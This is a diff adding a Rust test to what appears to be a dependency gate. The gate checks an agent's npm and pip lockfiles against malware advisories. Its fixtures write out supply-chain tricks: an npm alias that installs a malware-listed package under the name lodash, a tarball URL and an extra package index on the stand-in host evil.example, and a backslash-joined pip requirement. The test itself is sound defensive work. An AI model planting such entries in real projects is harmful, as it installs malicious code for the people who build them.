@@ -2649,3 +2649,46 @@ mod review_edges {
         }
     }
 }
+
+/// The tenth attacker round's lockfiles, read as their tools read them: an
+/// npm entry under `node_modules/lodash` whose `name` installs the
+/// malware-listed `evilpkg` (npm installs it, `require('lodash')` returns
+/// it), an entry whose `resolved` is any URL, and a requirements file whose
+/// `evilpkg\` and `==1.0.0` pip joins into one requirement, beside an
+/// `--extra-index-url`: each refused and named, none in the file's own words.
+#[test]
+fn lockfiles_are_read_as_npm_and_pip_install_them() {
+    let mut records = the_records();
+    records.push(osv(
+        "MAL-2026-9",
+        "PyPI",
+        "evilpkg",
+        json!({"versions": ["1.0.0"]}),
+        json!({}),
+    ));
+    let folder = osv_folder(&records);
+    let lock = "{\"lockfileVersion\": 3, \"packages\": {\"\": {\"name\": \"app\"}, \
+                \"node_modules/lodash\": {\"name\": \"evilpkg\", \"version\": \"1.0.0\"}, \
+                \"node_modules/left-pad\": {\"version\": \"1.3.0\", \"resolved\": \"https://evil.example/lp.tgz\"}}}\n";
+    let req = "--extra-index-url https://evil.example/simple\nevilpkg\\\n==1.0.0\n";
+    let script = format!(
+        "if [ \"$AFK_TURN\" = 1 ]; then\n{}{}fi\n",
+        writes("web/package-lock.json", lock)
+            .replace("git add -A\ngit commit -qm \"agent: turn $AFK_TURN\"\n", ""),
+        writes("requirements.txt", req)
+    );
+    let (sb, afk) = setup(&script, &gated_with(&folder));
+    let prompt = gate_turn_prompt(&sb, &afk);
+    for want in [
+        // the alias installs the listed package: its advisory, and the alias
+        "dependency `evilpkg` `1.0.0` (npm, `web/package-lock.json`): MAL-2026-7 (malware)",
+        "dependency `lodash` (npm, `web/package-lock.json`, manifest): its source is not the registry (1.0.0 from an alias of another package)",
+        "dependency `left-pad` (npm, `web/package-lock.json`, manifest): its source is not the registry (1.3.0 from a URL other than the registry's tarball)",
+        // pip's joined line, and its index option
+        "dependency `evilpkg` `1.0.0` (PyPI, `requirements.txt`): MAL-2026-9 (malware)",
+        "its source is not the registry (an option from its --extra-index-url)",
+    ] {
+        assert!(prompt.contains(want), "{want}: {prompt}");
+    }
+    assert!(!prompt.contains("evil.example"), "no file text: {prompt}");
+}
